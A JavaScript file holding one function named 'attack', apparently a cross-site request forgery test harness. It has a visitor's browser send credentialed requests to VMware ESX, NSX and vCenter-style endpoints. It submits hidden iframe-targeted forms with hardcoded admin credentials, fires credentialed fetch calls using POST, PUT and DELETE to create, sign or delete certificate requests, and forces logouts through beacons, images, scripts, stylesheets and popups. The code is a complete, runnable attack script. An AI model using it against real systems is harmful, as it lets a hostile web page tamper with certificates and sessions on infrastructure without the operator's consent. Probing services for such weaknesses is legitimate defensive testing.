// What a page of another site can have a browser send to the service. attack sends
// all of it and returns how many requests that were.
async function attack(target, spec, ecSpec) {
	const csr = '/api/esx/attestation/certificate/csr';
	const certificate = '/api/esx/attestation/certificate';
	const nsx = '/policy/api/v1/infra/csrs';
	const logout = '/api/session/destroy';
	const login = {j_username: 'admin', j_password: 'swordfish'};
	let sent = 0;
	let all = [];

	// settled waits for what happens to an element, but not for good: an answer
	// without a body leaves a frame as it is.
	const settled = (element, begin) => new Promise(done => {
		sent++;
		element.onload = element.onerror = done;
		setTimeout(done, 2000);
		begin();
	});
	const add = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes));

	const form = (method, path, enctype, fields) => {
		const name = 'frame' + sent;
		const frame = add('iframe', {name});
		const sender = add('form', {method, enctype, action: target + path, target: name});
		for (const [field, value] of Object.entries(fields)) {
			sender.appendChild(Object.assign(document.createElement('textarea'), {name: field, value}));
		}
		return settled(frame, () => sender.submit());
	};
	for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
		for (const path of [csr, nsx + '/form?action=create', nsx + '?action=self_sign', '/api/session', '/rest/com/vmware/cis/session', '/api/session/create']) {
			all.push(form('POST', path, enctype, login));
		}
	}
	all.push(form('GET', logout, '', {}));
	await Promise.all(all);
	all = [];

	for (const mode of ['no-cors', 'cors']) {
		for (const [method, path, body] of [
			['POST', csr, spec], ['POST', nsx + '/' + mode + '?action=create', ecSpec], ['POST', nsx + '?action=self_sign', ecSpec],
			['POST', '/api/session', '{}'], ['POST', '/rest/com/vmware/cis/session', ''], ['POST', '/api/session/create', new URLSearchParams(login)],
			['GET', logout], ['HEAD', logout],
			['PUT', certificate, '{}'], ['DELETE', csr], ['DELETE', '/api/session'], ['DELETE', '/rest/com/vmware/cis/session'], ['DELETE', nsx + '/planted'],
		]) {
			for (const type of [undefined, 'text/plain', 'application/json']) {
				const headers = type && body ? {'Content-Type': type} : {};
				sent++;
				// no-cors takes no PUT and no DELETE; cors asks with OPTIONS before.
				all.push(fetch(target + path, {method, mode, body, headers, credentials: 'include', signal: AbortSignal.timeout(3000)}).catch(() => {}));
			}
		}
	}

	await Promise.all(all);

	navigator.sendBeacon(target + nsx + '/beacon?action=create', ecSpec);
	sent++;
	for (const tag of ['img', 'script', 'iframe']) {
		const element = document.createElement(tag);
		await settled(element, () => { element.src = target + logout; document.body.appendChild(element); });
	}
	const sheet = document.createElement('link');
	await settled(sheet, () => { sheet.rel = 'stylesheet'; sheet.href = target + logout; document.head.appendChild(sheet); });
	const opened = window.open(target + logout);
	sent++;
	await new Promise(done => setTimeout(done, 500));
	opened?.close();
	return sent;
}
